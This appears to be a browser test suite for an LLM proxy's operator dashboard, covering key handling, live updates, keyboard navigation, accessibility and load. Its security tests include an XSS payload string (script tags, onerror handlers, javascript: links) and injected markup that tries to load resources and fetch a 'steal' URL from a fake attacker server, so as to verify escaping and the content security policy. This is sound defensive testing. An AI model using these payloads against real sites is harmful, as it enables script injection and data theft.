import axe from "axe-core";
import type { Page } from "playwright-core";
import { test as runnable } from "uvu";
import * as assert from "uvu/assert";
import { BROWSER, closeBrowser } from "../../../helpers/browser.ts";
import { ADMIN_KEY, type FakeAdmin, type FakeState, startFakeAdmin } from "../fake-admin.ts";
import { backendOf, clusterOf, decisionOf, downgradedDecision, failedDecision, hedgedDecision, hostOf } from "../samples.ts";
import { type Operator, type OperatorOptions, openPage } from "./operator.ts";

if (BROWSER === undefined) console.log("SKIP the operator's page in a browser: `npm run fetch:test-browser` installs one");
const test = BROWSER === undefined ? runnable.skip : runnable;

/** What every test has: some backends, guests, errors and decisions. */
function stateOf(): Partial<FakeState> {
	const open = backendOf("east", { health: "unavailable" });
	const now = Date.now();
	return {
		backends: [
			backendOf("north"),
			backendOf("south", { health: "degraded", region: "eu" }),
			{
				...open,
				operations: open.operations.map((each) => ({ ...each, available: false, breaker: "open", breaker_open_until_at_ms: now + 9_000 })),
			},
			backendOf("vectors", { health: "disabled", limits: [], missing_keys: ["VECTORS_KEY"] }),
		],
		decisions: [
			hedgedDecision({ id: "hedged" }),
			downgradedDecision({ id: "downgraded" }),
			failedDecision({ id: "failed" }),
			...Array.from({ length: 9 }, () => decisionOf()),
		],
		errors: [
			{
				code: "backend_error",
				operation: "chat_completions",
				backend: "east",
				attribution: "connection",
				message: "the backend refuses connections",
				causes: ["ECONNREFUSED"],
				count: 41,
				first_at_ms: now - 600_000,
				last_at_ms: now - 2_000,
				last_guest: "shop",
				last_decision_id: "failed",
			},
		],
		guests: [
			{
				name: "shop",
				settings: "shop",
				in_flight: 2,
				limits: [{ kind: "budget_per_day", limit: 5, left: 0.6, resets_at_ms: now + 4_000_000 }],
				totals: { requests: 1_234, errors: 12, cancelled: 1, input_tokens: 123_456, output_tokens: 2_345_678, cost: 4.4 },
				last_request_at_ms: now,
			},
		],
		cluster: clusterOf(),
		series: { total: [""], operation: ["chat_completions", "embeddings"], guest: ["shop"], backend: ["north", "south"] },
	};
}

/** Runs a test with a fake admin API and an open page. Fails if the page threw, broke its policy or left the server. */
async function withPage(
	body: (operator: Operator, fake: FakeAdmin) => Promise<void>,
	state = stateOf(),
	options: OperatorOptions = {},
): Promise<void> {
	const fake = await startFakeAdmin(state);
	const operator = await openPage(fake.url, options);
	try {
		await body(operator, fake);
		assert.equal(operator.faults, []);
		assert.equal(await operator.violations(), []);
		const elsewhere = operator.requests.filter((url) => !url.startsWith(fake.url) && !url.startsWith("data:"));
		assert.equal(elsewhere, []);
		assert.not(
			fake.seen.some((path) => path.includes(ADMIN_KEY)),
			"the key is in a URL",
		);
	} finally {
		await operator.close();
		await fake.close();
	}
}

const heading = (page: Page, name: string | RegExp) => page.getByRole("heading", { name, exact: typeof name === "string" });

test("the page opens with the key, which stays in the tab and out of URLs", () =>
	withPage(
		async ({ page }, fake) => {
			const key = page.getByLabel("Key", { exact: true });
			await key.fill("not-the-key");
			await page.keyboard.press("Enter");
			await page.getByRole("alert").getByText("this is not the key of the admin API").waitFor();
			await key.fill("schlüssel");
			await page.keyboard.press("Enter");
			await page.getByRole("alert").getByText("visible ASCII characters").waitFor();
			const startedAt = performance.now();
			await page.goto(fake.url);
			await page.getByLabel("Key", { exact: true }).fill(ADMIN_KEY);
			await page.keyboard.press("Enter");
			await page.getByRole("heading", { name: "east" }).waitFor();
			console.log(`from the request of the page to its backends: ${Math.round(performance.now() - startedAt)} ms`);
			const stored = await page.evaluate("[sessionStorage.length, JSON.stringify(localStorage), document.cookie]");
			assert.equal(stored, [1, "{}", ""]);
			await page.reload();
			await heading(page, "Overview").waitFor();
			await page.getByRole("button", { name: "Lock" }).click();
			await heading(page, "Admin key").waitFor();
			assert.is(await page.evaluate("sessionStorage.length"), 0);
		},
		stateOf(),
		{ isUnlocked: false },
	));

test("a server without an admin key says what to set", async () => {
	await withPage(
		async ({ page }, fake) => {
			await heading(page, "The admin API is off").waitFor();
			await page.getByText('admin_key_env = "SPEAR_ADMIN_KEY"').waitFor();
			assert.not(fake.seen.some((path) => path.startsWith("/admin/")));
		},
		{ hasAdmin: false },
		{ isUnlocked: false },
	);
});

test("a live failure and the opening of a breaker show without a reload", () =>
	withPage(async ({ page, go }, fake) => {
		await heading(page, "Overview").waitFor();
		await page.locator("[data-connection=live]").waitFor();
		const startedAt = performance.now();
		fake.decide(failedDecision({ id: "just-now", guest: "newcomer" }));
		const north = fake.state.backends[0];
		if (north !== undefined) north.health = "unavailable";
		fake.emit({ type: "backend", at_ms: Date.now(), backend: "north", operation: "chat_completions", change: "breaker_opened" });
		await page.getByText("chat completions of newcomer failed at south: backend error").waitFor();
		await page.locator('[data-backend="north"][data-health="unavailable"]').waitFor();
		console.log(`from a failure to its place in the page: ${Math.round(performance.now() - startedAt)} ms`);
		await page.getByRole("status").getByText("north (chat completions): breaker opened").waitFor();
		await go("#/decisions?status=failed");
		await page.getByText("newcomer").waitFor();
		fake.decide(failedDecision({ id: "later", guest: "second-newcomer" }));
		await page.getByText("second-newcomer").waitFor();
	}));

test("a hedged and a downgraded request are explained", () =>
	withPage(async ({ page, go }) => {
		await go("#/decisions/hedged");
		await page.getByText("north had no output after 700 ms, so a hedge was sent to south.").waitFor();
		const attempts = page.locator("[data-role]");
		assert.equal(
			await attempts.evaluateAll((rows) => rows.map((row) => [row.getAttribute("data-role"), row.getAttribute("data-outcome")])),
			[
				["first", "lost"],
				["hedge", "won"],
			],
		);
		const boxes = await Promise.all([attempts.nth(0).locator(".bar").boundingBox(), attempts.nth(1).locator(".bar").boundingBox()]);
		assert.ok((boxes[0]?.x ?? 0) + (boxes[0]?.width ?? 0) > (boxes[1]?.x ?? 0) + 5, "the bars overlap in time");
		await page.locator('[data-candidate="rejected"]').getByText("does not serve the operation").waitFor();
		await page.locator('[data-candidate="chosen"]').getByText("990").waitFor();
		await go("#/decisions/downgraded");
		await page.getByText("response_format.json_schema was emulated, params.seed was dropped").waitFor();
		await page.getByRole("row", { name: "params.seed dropped the upstream has no seed" }).waitFor();
		await page.getByText("0.0012").first().waitFor();
	}));

test("the hosts are shown with their load, and what differs between them", () =>
	withPage(async ({ page, go }, fake) => {
		await page.getByRole("link", { name: "Hosts" }).click();
		const south = page.getByRole("row", { name: "south" });
		await south.getByText("east: breaker open").waitFor();
		assert.match(
			(await south.textContent()) ?? "",
			/● serving.*4.*12\.5.*1 · 7 waiting.*reports 2.*shop requests 25.*received 3.*1b1b1b1b1b1b.*differs/,
		);
		await page.locator('[data-host="north"]').getByText("this host").waitFor();
		await page.locator("[data-differs]").getByText("0a0a0a0a0a0a: north; 1b1b1b1b1b1b: south").waitFor();
		const now = Date.now();
		fake.state.cluster = clusterOf({
			store: { reachable: false, since_at_ms: now - 7_000, fault: "connect ECONNREFUSED", contact_at_ms: now - 7_000 },
			hosts: [hostOf("north", { is_this: true }), hostOf("south", { state: "unknown", seen_at_ms: now - 9_000 })],
			configs: [{ digest: "0a".repeat(32), hosts: ["north", "south"] }],
			refused: [{ host: "west", fault: "its card has another version" }],
		});
		await page.locator("[data-store=unreachable]").getByText("connect ECONNREFUSED").waitFor();
		await page.locator('[data-host="south"][data-state="unknown"]').getByText("? unknown").waitFor();
		await page.getByText("Host west is left out.").waitFor();
		assert.is(await page.locator("[data-differs]").count(), 0);
		assert.equal(await findings(page), []);
		fake.state.cluster = undefined;
		await go("#/overview");
		await page.reload();
		await heading(page, "Overview").waitFor();
		assert.is(await page.getByRole("link", { name: "Hosts" }).count(), 0, "a host alone has no view of hosts");
	}));

test("a decision that is not kept says why", () =>
	withPage(async ({ page, go }) => {
		await go("#/decisions/unknown");
		await page.getByText("This decision is not kept.").waitFor();
	}));

test("the keyboard alone opens the page, a view, a decision, and returns", () =>
	withPage(
		async ({ page, until }) => {
			const focused = () => page.evaluate<string>("document.activeElement.id || document.activeElement.textContent");
			await heading(page, "Admin key").waitFor();
			assert.is(await focused(), "admin-key");
			await page.keyboard.type(ADMIN_KEY);
			await page.keyboard.press("Enter");
			await heading(page, "Overview").waitFor();
			await until("document.activeElement.id === 'main'");
			await page.reload();
			await heading(page, "Overview").waitFor();
			await page.keyboard.press("Tab");
			assert.is(await focused(), "Skip to the content");
			await page.keyboard.press("Enter");
			assert.is(await focused(), "main");
			for (let presses = 0; (await focused()) !== "Decisions" && presses < 20; presses++) await page.keyboard.press("Shift+Tab");
			await page.keyboard.press("Enter");
			await heading(page, "Decisions").waitFor();
			await page.locator("[data-status]").first().waitFor();
			for (let presses = 0; !(await focused()).startsWith("row-") && presses < 20; presses++) await page.keyboard.press("Tab");
			const first = await focused();
			await page.keyboard.press("ArrowDown");
			await page.keyboard.press("ArrowDown");
			const third = await focused();
			assert.ok(third.startsWith("row-") && third !== first);
			await page.keyboard.press("End");
			assert.is(await focused(), "row-hedged");
			await page.keyboard.press("Home");
			assert.is(await focused(), first);
			await page.keyboard.press("End");
			await page.keyboard.press("Enter");
			await heading(page, "Decision hedged").waitFor();
			await until("document.activeElement.id === 'decision-title'");
			await page.keyboard.press("Escape");
			await until("document.activeElement.id === 'row-hedged'");
			assert.is(await page.getByRole("heading", { name: "Decision hedged" }).count(), 0);
		},
		stateOf(),
		{ isUnlocked: false },
	));

test("filters narrow the list, and stay in the address", () =>
	withPage(async ({ page, go, until }) => {
		await go("#/decisions");
		await page.locator("[data-status]").nth(11).waitFor();
		await page.getByLabel("Hedged").selectOption("true");
		await until("document.querySelectorAll('[data-status]').length === 1");
		assert.match(page.url(), /#\/decisions\?hedged=true$/);
		await page.getByLabel("Status").selectOption("failed");
		await page.getByText("No decision matches the filters.").waitFor();
		await page.getByRole("button", { name: "Clear" }).click();
		await page.locator("[data-status]").nth(11).waitFor();
	}));

test("a lost connection is told, and ends by itself", () =>
	withPage(async ({ page }, fake) => {
		await page.locator("[data-connection=live]").waitFor();
		await heading(page, "north").waitFor();
		await fake.disconnect();
		await page.locator("[data-state=lost]").getByText("Disconnected").waitFor();
		assert.is(await heading(page, "north").count(), 1, "what was shown stays");
		await fake.restore();
		await page.getByRole("button", { name: "Try now" }).click();
		await page.locator("[data-connection=live]").waitFor();
		assert.is(await page.locator("[data-state=lost]").count(), 0);
	}));

test("a server without backends, decisions, guests and errors has a page", () =>
	withPage(async ({ page, go }) => {
		for (const [hash, text] of [
			["#/overview", "No backends are configured."],
			["#/traffic", "No request has ended in the last 5 minutes."],
			["#/errors", "Nothing has failed."],
			["#/budgets", "No guest has sent a request yet."],
			["#/decisions", "No decision is kept yet."],
		] as const) {
			await go(hash);
			await page.getByText(text).waitFor();
		}
	}, {}));

test("a refusal of the server is shown in its place", () =>
	withPage(async ({ page, go }, fake) => {
		await page.locator("[data-connection=live]").waitFor();
		fake.state.fault = "the disk is on fire";
		await go("#/errors");
		await page.getByRole("alert").getByText("the disk is on fire").waitFor();
		fake.state.fault = undefined;
		await page.getByRole("button", { name: "Try again" }).click();
		await page.getByText("ECONNREFUSED").waitFor();
	}));

/** Expression in the page: the view is there, with its content. */
const IS_LOADED = "document.querySelector('[aria-busy]') === null && document.querySelector('h1') !== null";

const PLACES = [
	"#/overview",
	"#/hosts",
	"#/traffic",
	"#/errors",
	"#/budgets",
	"#/decisions",
	"#/decisions/hedged",
	"#/decisions/downgraded",
	"#/decisions/failed",
	"#/decisions/unknown",
];

/** Runs axe in the page, and returns what it finds. */
async function findings(page: Page): Promise<string[]> {
	await page.evaluate(`${axe.source};undefined`);
	const result = await page.evaluate<axe.AxeResults>("axe.run(document, { resultTypes: ['violations'] })");
	return result.violations.map(({ id, nodes }) => `${id}: ${nodes.map(({ html }) => html.slice(0, 160)).join(" | ")}`);
}

for (const colorScheme of ["light", "dark"] as const) {
	test(`every view passes axe in the ${colorScheme} colours`, () =>
		withPage(
			async ({ page, go, until }, fake) => {
				await page.locator("[data-connection=live]").waitFor();
				fake.emit({ type: "backend", at_ms: Date.now(), backend: "north", change: "recovered" });
				for (const place of PLACES) {
					await go(place);
					await until(IS_LOADED);
					if (place === "#/traffic") await page.getByText("Heat map as a table").click();
					assert.equal(await findings(page), [], place);
				}
				await fake.disconnect();
				await page.locator("[data-state=lost]").waitFor();
				assert.equal(await findings(page), [], "lost");
				await fake.restore();
				await page.getByRole("button", { name: "Lock" }).click();
				await heading(page, "Admin key").waitFor();
				await page.keyboard.press("Enter");
				await page.getByRole("alert").waitFor();
				assert.equal(await findings(page), [], "key");
			},
			stateOf(),
			{ colorScheme },
		));
}

test("a narrow screen has no sideways scroll, and passes axe", () =>
	withPage(
		async ({ page, go, until }) => {
			for (const place of PLACES) {
				await go(place);
				await until(IS_LOADED);
				assert.ok(await page.evaluate("document.documentElement.scrollWidth <= innerWidth"), place);
			}
			assert.equal(await findings(page), []);
		},
		stateOf(),
		{ viewport: { width: 360, height: 740 } },
	));

test("the chosen colours win over those of the system, and are kept", () =>
	withPage(async ({ page }) => {
		const ground = () => page.evaluate<string>("getComputedStyle(document.body).backgroundColor");
		const light = await ground();
		await page.getByLabel("Colours").selectOption("dark");
		const dark = await ground();
		assert.is.not(dark, light);
		await page.reload();
		assert.is(await ground(), dark);
	}));

const HOSTILE = `</title></script><script>pwned=1</script><img src=x onerror="pwned=1"><a href="javascript:pwned=1">x</a>"'&{{pwned=1}}`;

test("hostile names and texts of guests, models, tools and upstreams are shown as text", () =>
	withPage(
		async ({ page, go, until }) => {
			for (const place of [
				"#/overview",
				"#/traffic",
				"#/errors",
				"#/budgets",
				"#/hosts",
				"#/decisions",
				`#/decisions/${encodeURIComponent(HOSTILE)}`,
			]) {
				await go(place);
				await until(IS_LOADED);
				await page.getByText("<img src=x", { exact: false }).first().waitFor({ state: "attached" });
				const elements = await page.locator("main img, main script, [onerror], [href^='javascript:']").count();
				assert.is(elements, 0, place);
			}
			assert.is(await page.evaluate("typeof pwned"), "undefined");
		},
		{
			backends: [backendOf(HOSTILE, { kind: HOSTILE, region: HOSTILE, missing_keys: [HOSTILE] })],
			decisions: [
				failedDecision({
					id: HOSTILE,
					guest: HOSTILE,
					model: HOSTILE,
					backend: HOSTILE,
					error: { code: "backend_error", message: HOSTILE },
					required_features: [HOSTILE],
					rejected: [{ backend: HOSTILE, reason: "model", detail: HOSTILE }],
					timeline: [{ backend: HOSTILE, role: "first", start_ms: 0, latency_ms: 5, failure: "backend_error", detail: HOSTILE }],
					events: [{ at_ms: 1, type: "limited", backend: HOSTILE, detail: HOSTILE }],
					downgrades: [{ field: `tools.${HOSTILE}`, effect: "dropped", detail: HOSTILE }],
					trace_id: HOSTILE,
				}),
			],
			errors: [
				{
					code: "backend_error",
					operation: "chat_completions",
					backend: HOSTILE,
					attribution: "backend",
					message: HOSTILE,
					causes: [HOSTILE],
					count: 1,
					first_at_ms: 0,
					last_at_ms: 0,
					last_guest: HOSTILE,
					last_decision_id: HOSTILE,
				},
			],
			guests: [
				{
					name: HOSTILE,
					limits: [],
					totals: { requests: 1, errors: 1, cancelled: 0, input_tokens: 0, output_tokens: 0, cost: 0 },
					settings: HOSTILE,
				},
			],
			cluster: clusterOf({
				hosts: [
					hostOf(HOSTILE, {
						version: HOSTILE,
						backends: [{ name: HOSTILE, breaker: "open" }],
						leases: [{ name: HOSTILE, amount: 1 }],
						queue: [{ name: HOSTILE, amount: 1 }],
						hints: [{ name: HOSTILE, amount: 1 }],
					}),
				],
				refused: [{ host: HOSTILE, fault: HOSTILE }],
			}),
			series: { total: [""], operation: ["chat_completions", HOSTILE], guest: [HOSTILE], backend: [HOSTILE] },
		},
	));

/** What a page without escaping would do with text of others. `at` is a server of an attacker. */
const withoutEscaping = (at: string): string => `
	document.getElementById("main").innerHTML = ${JSON.stringify(
		`<img src="${at}image" onerror="pwned=1"><iframe src="${at}frame"></iframe><p style="color:red">${HOSTILE}</p>`,
	)};
	for (const given of [{ textContent: "pwned=1" }, { src: "${at}script" }]) document.body.append(Object.assign(document.createElement("script"), given));
	document.body.insertAdjacentHTML("beforeend", '<form action="${at}form"><button id="evil">x</button></form><base href="${at}base">');
	document.querySelector('[href^="javascript:"]').click();
	document.getElementById("evil").click();
	fetch("${at}steal").catch(() => {});
`;

test("markup that got past the escaping would run no script and load nothing", async () => {
	const fake = await startFakeAdmin(stateOf());
	const attacker = await startFakeAdmin();
	const operator = await openPage(fake.url);
	const { page, until } = operator;
	try {
		await heading(page, "Overview").waitFor();
		await page.evaluate(withoutEscaping(attacker.url));
		for (const directive of ["script-src-elem", "script-src-attr", "connect-src", "img-src", "frame-src", "base-uri", "form-action"])
			await until(`violations.includes('${directive}')`);
		assert.is(await page.evaluate("typeof pwned"), "undefined");
		assert.equal(attacker.seen, []);
	} finally {
		await operator.close();
		await Promise.all([fake.close(), attacker.close()]);
	}
});

test("ten thousand decisions and a storm of events leave the page bounded", () =>
	withPage(
		async ({ page, go, until }, fake) => {
			await go("#/decisions");
			await page.getByText("100 shown").waitFor();
			await page.getByRole("button", { name: "Older" }).click();
			await page.getByRole("button", { name: "Newest" }).waitFor();
			assert.is(await page.locator("[data-status]").count(), 100);
			await page.getByRole("button", { name: "Newest" }).click();
			await page.getByLabel("Follow new decisions").waitFor();
			for (let count = 0; count < 2_000; count++) fake.decide(decisionOf({ guest: "storm" }));
			await until("[...document.querySelectorAll('[data-status]')].every((row) => row.textContent.includes('storm'))");
			assert.is(await page.locator("[data-status]").count(), 100);
			await go("#/overview");
			for (let count = 0; count < 500; count++) fake.decide(failedDecision({ guest: "failing" }));
			await page.getByText("of failing failed").nth(11).waitFor();
			assert.is(await page.locator("[data-feed]").count(), 12);
			assert.is(await page.locator("[data-backend]").count(), 60);
			await page.getByRole("button", { name: "Show more" }).click();
			await page.locator("[data-backend]").nth(119).waitFor();
		},
		{
			...stateOf(),
			backends: Array.from({ length: 1_000 }, (_, at) => backendOf(`backend-${at}`)),
			decisions: Array.from({ length: 10_000 }, () => decisionOf()),
		},
	));

runnable.after(closeBrowser);

runnable.run();
